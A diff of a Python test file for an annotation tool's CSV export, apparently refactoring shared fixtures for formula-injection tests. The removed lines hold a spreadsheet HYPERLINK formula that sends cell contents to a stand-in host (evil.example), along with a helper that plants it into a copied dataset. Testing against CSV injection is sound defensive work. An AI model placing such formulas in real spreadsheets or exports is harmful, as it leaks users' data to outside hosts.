@@ -6,15 +6,14 @@ from __future__ import annotations
 import csv
 import io
 import json
-import shutil
 from pathlib import Path
 
 from annotator.core.csv_cells import restored
 from annotator.engine import assignment as engine
 from tests.conftest import DATA, load_project
 from tests.declared_projects import EVERY_KIND, read_jsonl
+from tests.formula_data import HYPERLINK, hostile_kpa_folder
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Invoice")'
 ANSWER = {"sentiment": "neutral", "sarcastic": "no", "themes": ["life"], "intensity": 2, "better": "A",
           "comment": HYPERLINK}
 
@@ -77,18 +76,6 @@ def test_an_export_of_quoted_files_only_has_no_formula_listing(app, make_user, t
     result = export(app, "custom", tmp_path / "out", "quotes")
     assert not (tmp_path / "out" / "FORMULA-CELLS.txt").exists()
     assert "formula" not in result.output
-
-
-def hostile_kpa_folder(tmp_path: Path) -> Path:
-    """The KPA excerpt with argument arg_1_1 (line 3 of arguments_test.csv) replaced by a formula."""
-    folder = tmp_path / "kpa"
-    shutil.copytree(DATA / "kpa2021", folder)
-    path = folder / "arguments_test.csv"
-    lines = path.read_text("utf-8").split("\n")
-    arg_id, _, rest = lines[2].split(",", 2)
-    lines[2] = ",".join([arg_id, '"' + HYPERLINK.replace('"', '""') + '"', rest])
-    path.write_text("\n".join(lines), encoding="utf-8")
-    return folder
 
 
 def test_the_shared_tasks_files_keep_a_formula_byte_for_byte(app, tmp_path):
